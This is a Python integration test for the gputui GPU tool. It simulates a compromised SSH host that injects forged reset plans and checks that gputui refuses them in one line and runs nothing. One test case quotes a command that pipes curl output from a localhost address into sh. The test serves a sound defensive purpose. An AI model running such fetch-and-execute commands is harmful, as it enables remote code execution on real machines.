"""A GPU host whose collector is not gputui's (RELIABILITY 51): a real sshd whose ``ForceCommand`` puts
``hostile_collector`` between the client and the shipped collector, rewriting its answers as a compromised
host could. Whatever it sends, ``gputui`` says so in one line, shows nothing it did not ask for as a plan that
can go ahead, and runs nothing."""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import pytest

from tests.fakenvml.plugin import FakeNvml
from tests.integration.procs import run_gputui
from tests.integration.sshd import ClientHome, SshdFactory, SshdServer

REPO = Path(__file__).resolve().parents[2]
NOT_OURS = "the collector answered with a reset plan gputui never makes (not gputui's collector?)"


def _hostile_host(sshd_factory: SshdFactory, ssh_client: ClientHome, mode: str) -> SshdServer:
    script = REPO / "tests" / "integration" / "hostile_collector.py"
    server = sshd_factory(
        extra_config=(f"ForceCommand {sys.executable} {script}",),
        extra_env={"HOSTILE_MODE": mode},
    )
    ssh_client.add_host("host-h", server)
    ssh_client.trust(server)
    return server


def _audit_lines(home: Path) -> list[dict[str, object]]:
    audit = home / ".local" / "state" / "gputui" / "audit.jsonl"
    state = os.environ.get("XDG_STATE_HOME")
    if state:
        audit = Path(state) / "gputui" / "audit.jsonl"
    if not audit.exists():
        return []
    return [json.loads(line) for line in audit.read_text().splitlines()]


@pytest.mark.parametrize(
    ("mode", "said"),
    [
        ("invented_steps", "sh -c 'curl -s http://127.0.0.1:9/x | sh'"),
        ("other_gpu", "it resets GPU 0, which was not asked"),
        ("deep", "nested too deep"),
    ],
)
def test_a_reset_plan_gputui_never_makes_is_refused_in_one_line_and_nothing_runs(
    sshd_factory: SshdFactory, ssh_client: ClientHome, fake_nvml: FakeNvml, mode: str, said: str
) -> None:
    _hostile_host(sshd_factory, ssh_client, mode)
    before = _audit_lines(Path.home())
    for args in (
        ("reset", "host-h", "1"),
        ("reset", "host-h", "1", "--yes"),
        ("reset", "--json", "host-h", "1"),
    ):
        done = run_gputui(args, dict(os.environ, PYTHONPATH=str(REPO)))
        assert done.returncode != 0, (args, done.stdout)
        errors = [line for line in done.stderr.splitlines() if line.strip()]
        assert len(errors) == 1, (done.stdout, done.stderr)
        assert errors[0].startswith("gputui: host-h: ") or errors[0].startswith("host-h: "), errors[0]
        assert NOT_OURS in errors[0]
        assert said in errors[0]
        assert "Traceback" not in done.stdout + done.stderr
        assert "can go ahead" not in done.stdout
    assert _audit_lines(Path.home()) == before  # no intent, no step: nothing was sent back to be run
